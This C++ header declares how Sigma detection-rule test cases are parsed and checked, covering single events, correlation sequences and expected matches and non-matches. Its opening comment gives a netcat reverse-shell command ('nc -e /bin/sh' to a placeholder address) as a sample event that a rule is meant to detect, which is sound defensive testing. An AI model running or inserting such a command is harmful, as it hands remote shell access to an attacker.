// Rules with events that they must and must not match: files beside the rules (docs/formats/sigma-cases.md).
//
//   rule: 5f0c2ab4-…                  # id or name of a rule or correlation
//   match:                            # it matches each of these
//     - {Image: /usr/bin/nc, CommandLine: "nc -e /bin/sh 203.0.113.7 4444"}
//     - sequence:                     # for correlations: it fires on the last one
//         - {event: {...}}
//         - {after: 10s, event: {...}}
//   no_match: [...]                   # and none of these
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "sigma/engine.h"
#include "sigma/parse.h"

namespace weir::sigma {

inline constexpr std::string_view kCasesSuffix = ".cases.yml";

struct Case {
  struct Step {
    Json event;           // object
    LogSource logsource;  // empty: that of the rule
    std::int64_t after_ns = 0;
  };
  std::string rule;
  std::string where;  // "file:line"
  bool matches = true;
  std::vector<Step> steps;  // one, unless a sequence
};

// Adds the cases of a file; what is wrong with it goes to `problems`.
void read_cases(std::string_view text, std::string_view where, std::vector<Case>& cases,
                std::vector<Problem>& problems);

struct Outcome {
  bool as_expected = false;
  std::string why;  // when not
};
// `engine` is compiled from `set.rules`. The engine is held against the plain reading of the rule, too.
Outcome run_case(const Case& one, const RuleSet& set, const Engine& engine, Workspace& workspace);

}  // namespace weir::sigma
